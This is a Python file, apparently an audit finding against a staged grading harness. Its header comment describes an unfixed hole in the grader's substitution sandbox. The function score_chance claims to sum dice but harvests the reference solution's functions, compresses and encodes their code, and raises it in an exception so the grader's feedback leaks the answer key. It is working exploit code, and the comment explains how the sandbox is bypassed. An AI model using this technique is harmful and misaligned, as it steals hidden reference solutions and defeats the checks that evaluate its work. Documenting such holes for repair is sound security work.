# Round nine, FOUND AND NOT FIXED (docs/threat-model.md, "What the sandbox does not protect
# against"): appended to the reference.  A stage-1 check's substitution sandbox holds the
# reference's functions of every other stage, later ones and stage 5's strategy included; this
# score_chance calls a stand-in (so the try fails and the variant runs with the reference), then
# finds the functions whose code is "<reference>" in its module and raises their marshalled,
# compressed code as a public check's exception message: stage 1's feedback shows it.


def score_chance(dice):
    """Return the sum of the dice (and, where the grader lends the reference, show what it lends)."""
    import base64
    import marshal
    import zlib
    found = {name: f.__code__ for name, f in list(globals().items())
             if getattr(getattr(f, "__code__", None), "co_filename", "") == "<reference>"}
    if found:
        blob = base64.b64encode(zlib.compress(marshal.dumps(found), 9))
        raise ValueError(f"LEAK {len(found)} functions {sorted(found)} {len(blob)} chars: {blob[:1500].decode()}")
    try:
        globals()["play_game"]()     # a stand-in (a try): touched, so the reference's variant runs
    except BaseException:
        pass
    return sum(dice)
